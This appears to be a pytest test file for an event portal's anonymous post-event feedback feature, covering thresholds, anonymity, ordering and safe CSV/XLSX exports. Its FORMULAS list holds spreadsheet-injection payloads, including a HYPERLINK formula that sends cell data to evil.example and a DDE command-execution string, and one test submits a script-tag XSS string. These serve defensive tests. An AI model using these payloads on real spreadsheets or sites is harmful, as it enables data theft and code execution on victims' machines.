"""Five questions behind the pass, answers that lead to nobody, and what organisers read."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import timedelta

import openpyxl
import pytest
from sqlalchemy import func, inspect, select, text

from portal import clock
from portal.app import declared_links
from portal.domain.events.models import Event
from portal.domain.feedback import charts
from portal.domain.feedback.models import Answer, BoxedAnswer
from portal.domain.feedback.queries import Tally
from portal.domain.feedback.rules import may_empty_box
from portal.domain.organizations.queries import organization_named
from portal.domain.registrations import actions as registrations
from portal.domain.registrations.models import Registration
from portal.domain.registrations.queries import Pass
from portal.domain.registrations.rules import FEEDBACK_CLOSES_AFTER
from portal.mailer.rounds import Worker
from tests.factories import make_event, make_organization, make_person, pass_key, sign_up_guest
from tests.functional.forms import feedback_fields
from tests.functional.pages import errors_of, figures_of, page_of, value_of, words

FORMULAS = (
    *('=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1"),
    *("=cmd|' /C calc'!A0", "{=1+1}", "https://evil.example", "mailto:a@evil.example"),
)


@pytest.fixture
def analyst(database):
    with database.writing() as db:
        person = make_person(db)
        make_organization(db, "ours", analyst=person)
    return person


@pytest.fixture
def finished(database, analyst):
    """Makes an event that ended an hour ago with so many guests; its slug and their keys."""

    def make(guests, *, ended=timedelta(hours=1)):
        with database.writing() as db:
            event = make_event(
                db,
                organization_named(db, "ours"),
                starts_at=clock.now() - ended - timedelta(hours=2),
                capacity=None,
            )
            return event.slug, [
                pass_key(db, sign_up_guest(db, event), event) for _guest in range(guests)
            ]

    return make


@pytest.fixture
def pour(database, settings):
    """Lets the worker do its round, now or later; returns how many boxes it has poured."""
    worker = Worker(database, declared_links(settings), settings)
    return lambda later=timedelta(): worker.round(clock.now() + later).poured


def answer(client, key, **changes):
    return client.post(f"/en/passes/{key}/feedback", data=feedback_fields(**changes))


def count(database, table):
    with database.reading() as db:
        return db.scalar(select(func.count()).select_from(table))


def test_five_questions_are_answered_from_the_pass(client, finished, database):
    _slug, (key,) = finished(1)
    assert "Give feedback" in words(client.get(f"/en/passes/{key}"))
    form = client.get(f"/en/passes/{key}/feedback")
    asked = set(page_of(form).xpath("//main//form//@name"))
    assert asked == {"rating", "recommend", "good", "improve", "quote"}
    given = answer(client, key, good="Күй", improve="Уақыт", quote="yes")
    assert given.headers["location"] == f"/en/passes/{key}/feedback/thanks"
    assert client.get(given.headers["location"]).status_code == 200
    assert "You have given your feedback" in words(client.get(f"/en/passes/{key}"))
    assert count(database, BoxedAnswer) == 1


def test_two_numbers_and_the_word_about_quoting_are_enough(client, finished):
    _slug, (key,) = finished(1)
    answered = client.post(
        f"/kk/passes/{key}/feedback", data={"rating": "1", "recommend": "0", "quote": "no"}
    )
    assert answered.status_code == 303


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"rating": ""}, "rating"),
        ({"rating": "0"}, "rating"),
        ({"rating": "6"}, "rating"),
        ({"rating": "good"}, "rating"),
        ({"recommend": "11"}, "recommend"),
        ({"recommend": "-1"}, "recommend"),
        ({"quote": "perhaps"}, "quote"),
        ({"good": "Ә" * 2_001}, "good"),
        ({"improve": "bell\a"}, "improve"),
    ],
)
def test_an_answer_outside_the_form_is_refused_and_kept_in_it(
    client, finished, database, changes, field
):
    _slug, (key,) = finished(1)
    refused = answer(client, key, **({"good": "Күй"} | changes))
    assert refused.status_code == 422
    assert list(errors_of(refused)) == [field]
    if field != "good":
        assert value_of(refused, "good") == "Күй"
    assert count(database, BoxedAnswer) == 0
    assert answer(client, key).status_code == 303


def test_one_answer_a_person(client, finished, database):
    _slug, (key,) = finished(1)
    answer(client, key)
    again = answer(client, key, rating="1")
    assert again.status_code == 409
    assert "You have already answered" in words(again)
    assert client.get(f"/en/passes/{key}/feedback").status_code == 409
    assert count(database, BoxedAnswer) == 1


def test_feedback_is_open_from_the_end_for_a_fortnight(client, finished, database):
    for ended, is_open in (
        (timedelta(hours=-1), False),
        (timedelta(minutes=1), True),
        (FEEDBACK_CLOSES_AFTER - timedelta(minutes=1), True),
        (FEEDBACK_CLOSES_AFTER + timedelta(minutes=1), False),
    ):
        _slug, (key,) = finished(1, ended=ended)
        assert client.get(f"/en/passes/{key}/feedback").status_code == (200 if is_open else 409)
        assert answer(client, key).status_code == (303 if is_open else 409)
    assert count(database, BoxedAnswer) == 2


def test_who_had_no_place_gives_no_feedback(client, database, analyst):
    with database.writing() as db:
        ended = clock.now() - timedelta(hours=3)
        event = make_event(db, make_organization(db), starts_at=ended, capacity=2)
        gone = sign_up_guest(db, event)
        registrations.cancel(db, Pass(gone, event), event.starts_at - timedelta(hours=29))
        sign_up_guest(db, event)
        unproved = sign_up_guest(db, event, confirmed=False)
        waiting = sign_up_guest(db, event)
        keys = [pass_key(db, each, event) for each in (gone, unproved, waiting)]
    assert [answer(client, key).status_code for key in keys] == [409, 409, 409]


def results(browser, slug):
    return browser.get(f"/en/organizing/events/{slug}/results")


def test_nothing_is_shown_for_fewer_than_five(client, browser_of, finished, analyst, pour):
    slug, keys = finished(5)
    browser = browser_of(analyst)
    for key in keys[:4]:
        answer(client, key, good="Домбыра")
    assert pour() == 0
    assert pour(FEEDBACK_CLOSES_AFTER) == 0
    shown = results(browser, slug)
    assert "at least 5 people have answered" in words(shown)
    for word in ("Домбыра", "average rating", "answered", "recommendation index"):
        assert word not in words(shown).replace("people have answered", "")
    for form in ("csv", "xlsx"):
        path = f"/en/organizing/events/{slug}/answers.{form}"
        assert browser.get(path).status_code == 404


def test_the_fifth_answer_opens_all_five(client, browser_of, finished, analyst, pour):
    slug, keys = finished(5)
    for number, key in enumerate(keys):
        answer(client, key, rating=str(number + 1), recommend="0", good=f"Сөз {number}")
    assert pour() == 1
    shown = results(browser_of(analyst), slug)
    for number in range(5):
        assert f"Сөз {number}" in words(shown)
    assert figures_of(shown)["average rating of 5"] == "3"
    assert figures_of(shown)["answered"] == "5"
    assert figures_of(shown)["recommendation index, −100 to 100"] == "−100"


def test_an_index_below_nought_has_a_minus_sign(client, browser_of, finished, analyst, pour):
    slug, keys = finished(5)
    for key, chosen in zip(keys, ("0", "3", "6", "7", "9"), strict=True):
        answer(client, key, recommend=chosen)
    assert pour() == 1
    shown = results(browser_of(analyst), slug)
    assert figures_of(shown)["recommendation index, −100 to 100"] == "−40"


def test_numbers_count_whoever_chose_them():
    tally = Tally(Counter({5: 3, 1: 2}), Counter({7: 1, 6: 1, 9: 2, 8: 1}))
    assert tally.answers == 5
    assert charts.mean_rating(tally) == 3.4
    assert charts.recommendation_index(tally) == 20


def test_later_answers_wait_until_there_are_five_more_or_the_form_has_closed(
    client, browser_of, finished, analyst, pour
):
    """Comparing the page before and after would else tell what the sixth has said."""
    slug, keys = finished(11)
    browser = browser_of(analyst)

    def texts():
        return set(re.findall(r"Сөз \d+", words(results(browser, slug))))

    def give(numbers):
        for number in numbers:
            answer(client, keys[number], good=f"Сөз {number}")

    give(range(5))
    assert pour() == 1
    first = texts()
    assert len(first) == 5
    for number in range(5, 9):
        give([number])
        assert pour() == 0
        assert texts() == first
        assert figures_of(results(browser, slug))["answered"] == "5"
    give([9])
    assert pour() == 1
    assert len(texts()) == 10
    give([10])
    assert pour() == 0
    assert len(texts()) == 10
    assert pour(FEEDBACK_CLOSES_AFTER) == 1
    assert len(texts()) == 11


@pytest.mark.parametrize(
    ("boxed", "published", "is_closed", "pours"),
    [
        (4, 0, False, False),
        (5, 0, False, True),
        (5, 119, False, True),
        (5, 120, False, False),
        (6, 120, False, True),
        (499, 10_000, False, False),
        (500, 10_000, False, True),
        (1, 10_000, True, True),
        (0, 10_000, True, False),
        (1, 3, True, False),
    ],
)
def test_the_more_answers_there_are_the_more_join_them_at_a_time(
    boxed, published, is_closed, pours
):
    assert may_empty_box(boxed, published, is_closed=is_closed) is pours


def test_many_texts_are_read_page_by_page(client, browser_of, finished, analyst, pour, monkeypatch):
    monkeypatch.setattr("portal.web.routes.results.ON_A_PAGE", 2)
    slug, keys = finished(5)
    for number, key in enumerate(keys):
        improve = f"Уақыт {number}" if number < 3 else ""
        answer(client, key, good=f"Сөз {number}", improve=improve)
    pour()
    browser, path, read = browser_of(analyst), f"/en/organizing/events/{slug}/results", []
    for number in (1, 2, 3):
        shown = browser.get(path)
        page = page_of(shown)
        read += re.findall(r"Сөз \d|Уақыт \d", words(shown))
        assert bool(page.xpath("//section[@aria-labelledby='charts']")) is (number == 1)
        onward = page.xpath("//nav//a[@rel='next']/@href")
        assert bool(onward) is (number < 3)
        path = onward[0] if onward else f"{path[: path.index('?')]}?page={number + 1}"
    assert "What to improve" not in words(shown)
    assert sorted(read) == [*(f"Сөз {n}" for n in range(5)), *(f"Уақыт {n}" for n in range(3))]
    assert browser.get(path).status_code == 404


def test_in_the_box_an_answer_is_sealed_and_without_a_name_or_a_time(client, finished, database):
    _slug, keys = finished(3)
    for key in keys:
        answer(client, key, good="Домбыра", rating="4", recommend="7")
    with database.reading() as db:
        columns = set(BoxedAnswer.__table__.columns.keys())
        assert columns == {"id", "event_id", "sealed"}
        for row in db.execute(select(BoxedAnswer.__table__)):
            assert "Домбыра".encode() not in bytes(row.sealed)
            assert len(row.id) == 22
        lengths = set(db.scalars(select(func.length(BoxedAnswer.sealed))))
    assert len(lengths) == 1


def test_no_column_of_an_answer_leads_to_anybody(database):
    for table in ("feedback_answers", "feedback_box"):
        inspector = inspect(database.engine)
        names = {column["name"] for column in inspector.get_columns(table)}
        assert not {n for n in names if re.search("person|registration|_at$|time|number|order", n)}
        targets = {key["referred_table"] for key in inspector.get_foreign_keys(table)}
        assert targets == {"events"}


def test_poured_answers_keep_neither_the_order_nor_the_moment_they_came_in(
    client, finished, database, pour
):
    """Ten answers in the order of their ratings; every trace the database keeps is looked at."""
    _slug, keys = finished(10)
    for number, key in enumerate(keys[:5]):
        answer(client, key, good=f"Сөз {number}", recommend=str(number))
    assert pour() == 1
    with database.reading() as db:
        first = dict(db.execute(select(Answer.recommend, Answer.id)).all())
    for number, key in enumerate(keys[5:], start=5):
        answer(client, key, good=f"Сөз {number}", recommend=str(number))
    assert pour() == 1
    with database.reading() as db:
        rows = db.execute(select(Answer.recommend, Answer.id).order_by(Answer.recommend)).all()
        assert len(rows) == 10
        # The old ones are written anew under other ids, or they would be told from the new.
        assert not set(first.values()) & {row.id for row in rows}
        if database.is_sqlite:
            with pytest.raises(Exception, match="rowid"):
                db.execute(text("SELECT rowid FROM feedback_answers"))
        else:
            stamps = db.execute(text("SELECT DISTINCT xmin::text FROM feedback_answers")).all()
            assert len(stamps) == 1
            others = db.execute(
                text(
                    "SELECT xmin::text FROM registrations UNION SELECT xmin::text FROM letters "
                    "UNION SELECT xmin::text FROM events"
                )
            ).all()
            assert not set(stamps) & set(others)
            order = db.scalars(text("SELECT recommend FROM feedback_answers ORDER BY ctid")).all()
            assert list(order) not in (list(range(10)), list(range(10))[::-1])
        assert db.scalar(select(func.count()).select_from(BoxedAnswer)) == 0


def test_the_order_of_poured_answers_is_chance(client, finished, database, pour):
    """Of three events with seven answers each, not all can come out as they went in by chance."""
    orders = []
    for _event in range(3):
        slug, keys = finished(7)
        for number, key in enumerate(keys):
            answer(client, key, recommend=str(number))
        pour()
        with database.reading() as db:
            statement = (
                select(Answer.recommend)
                .join(Event, Event.id == Answer.event_id)
                .where(Event.slug == slug)
                .order_by(Answer.id)
            )
            orders.append(list(db.scalars(statement)))
    assert all(sorted(order) == list(range(7)) for order in orders)
    assert any(order != list(range(7)) for order in orders)
    assert any(order != orders[0] for order in orders)


def test_what_people_wrote_is_not_readable_in_the_database(client, finished, database, pour):
    _slug, keys = finished(5)
    for key in keys:
        answer(client, key, good="Домбыра", improve="Уақыт")
    pour()
    with database.reading() as db:
        for row in db.execute(select(Answer.__table__)):
            assert "Домбыра".encode() not in bytes(row.good_sealed)
            assert "Уақыт".encode() not in bytes(row.improve_sealed)


def test_the_receipt_says_that_and_nothing_of_what(client, finished, database, pour):
    _slug, keys = finished(6)
    for key in keys[:5]:
        answer(client, key)
    pour()
    with database.reading() as db:
        answered = db.scalars(select(Registration.has_answered).order_by(Registration.id)).all()
    assert answered == [True] * 5 + [False]


def test_texts_are_shown_as_written_in_their_language_and_inert(
    client, browser_of, finished, analyst, pour
):
    slug, keys = finished(5)
    evil = "<script>alert(1)</script> **bold** https://evil.example"
    for key in keys:
        client.post(f"/kk/passes/{key}/feedback", data=feedback_fields(good=evil, quote="yes"))
    pour()
    shown = results(browser_of(analyst), slug)
    assert "<script>alert" not in shown.text
    assert evil in words(shown)
    assert not page_of(shown).xpath("//main//a[contains(@href, 'evil')]")
    assert page_of(shown).xpath("//main//*[@lang='kk'][contains(., 'bold')]")


def test_charts_have_a_table_beside_each(client, browser_of, finished, analyst, pour):
    slug, keys = finished(5)
    for number, key in enumerate(keys):
        answer(client, key, rating="5", recommend=str(number + 6))
    pour()
    page = page_of(results(browser_of(analyst), slug))
    captions = [" ".join(c.text_content().split()) for c in page.xpath("//main//table/caption")]
    assert captions == ["Overall rating", "Would recommend it"]
    ratings, recommendations = page.xpath("//main//table")
    assert len(ratings.xpath(".//tbody/tr")) == 5
    assert len(recommendations.xpath(".//tbody/tr")) == 11
    assert "100" in " ".join(ratings.xpath(".//tbody/tr")[0].text_content().split())


@pytest.fixture
def answered_with_formulas(client, finished, pour):
    """A finished event whose every text wants to be a formula."""
    slug, keys = finished(len(FORMULAS))
    for key, formula in zip(keys, FORMULAS, strict=True):
        answer(client, key, good=formula, improve='тыныш, жайлы;\n"күй"')
    pour()
    return slug


def test_answers_as_csv_are_read_rightly_and_run_nothing(
    browser_of, analyst, answered_with_formulas
):
    path = f"/en/organizing/events/{answered_with_formulas}/answers.csv"
    file = browser_of(analyst).get(path)
    assert file.content.startswith(b"\xef\xbb\xbf")
    assert "attachment" in file.headers["content-disposition"]
    assert file.headers["cache-control"] == "no-store"
    header, *rows = csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline=""))
    assert header[0] == "Overall rating"
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert row[3] == 'тыныш, жайлы;\n"күй"'
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert {row[2].removeprefix("'").strip() for row in rows} == {f.strip() for f in FORMULAS}


def test_answers_as_a_workbook_hold_text_and_no_formula(
    browser_of, analyst, answered_with_formulas
):
    path = f"/en/organizing/events/{answered_with_formulas}/answers.xlsx"
    file = browser_of(analyst).get(path)
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    (sheet,) = book.worksheets
    assert sheet.max_row == 1 + len(FORMULAS)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in {"s", "n"}
            assert cell.hyperlink is None
    assert {sheet.cell(n, 3).value.strip() for n in range(2, sheet.max_row + 1)} == {
        formula.strip() for formula in FORMULAS
    }
    assert isinstance(sheet.cell(2, 1).value, int)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_lists_of_participants_hold_names_states_and_no_address(client, browser_of, database, form):
    with database.writing() as db:
        editor = make_person(db)
        event = make_event(db, make_organization(db, editor=editor), capacity=2)
        sign_up_guest(db, event, name="=1+1", email="secret@example.org")
        sign_up_guest(db, event, name="Айгүл", confirmed=False)
        sign_up_guest(db, event, name="@SUM", email="other@example.org")
        slug = event.slug
    file = browser_of(editor).post(f"/en/organizing/events/{slug}/participants.{form}")
    assert file.status_code == 200
    if form == "csv":
        text_of_file = file.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text_of_file, newline="")))[1:]
        assert [row[0] for row in rows] == ["'=1+1", "Айгүл", "'@SUM"]
    else:
        (sheet,) = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets
        rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
        assert [row[0] for row in rows] == ["=1+1", "Айгүл", "@SUM"]
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
        text_of_file = repr(rows)
    assert [row[1] for row in rows] == [
        "Confirmed",
        "Held until the address is proved",
        "Waiting list",
    ]
    assert "example.org" not in text_of_file


def test_organisers_see_numbers_by_state_and_attendance(client, browser_of, database):
    with database.writing() as db:
        owner = make_person(db)
        starts_at = clock.now() - timedelta(minutes=5)
        event = make_event(db, make_organization(db, owner=owner), capacity=3, starts_at=starts_at)
        here, gone, _held = (
            sign_up_guest(db, event),
            sign_up_guest(db, event),
            sign_up_guest(db, event, confirmed=False, now=clock.now()),
        )
        sign_up_guest(db, event)
        keys = [pass_key(db, each, event) for each in (here, gone)]
        slug = event.slug
    client.post(f"/en/passes/{keys[0]}/attendance")
    client.post(f"/en/passes/{keys[1]}/cancellation")
    assert figures_of(browser_of(owner).get(f"/en/organizing/events/{slug}")) == {
        "confirmed": "2",
        "held, address not proved yet": "1",
        "on the waiting list": "0",
        "gave their place back": "1",
        "opened the room": "1",
        "letters undelivered": "0",
    }
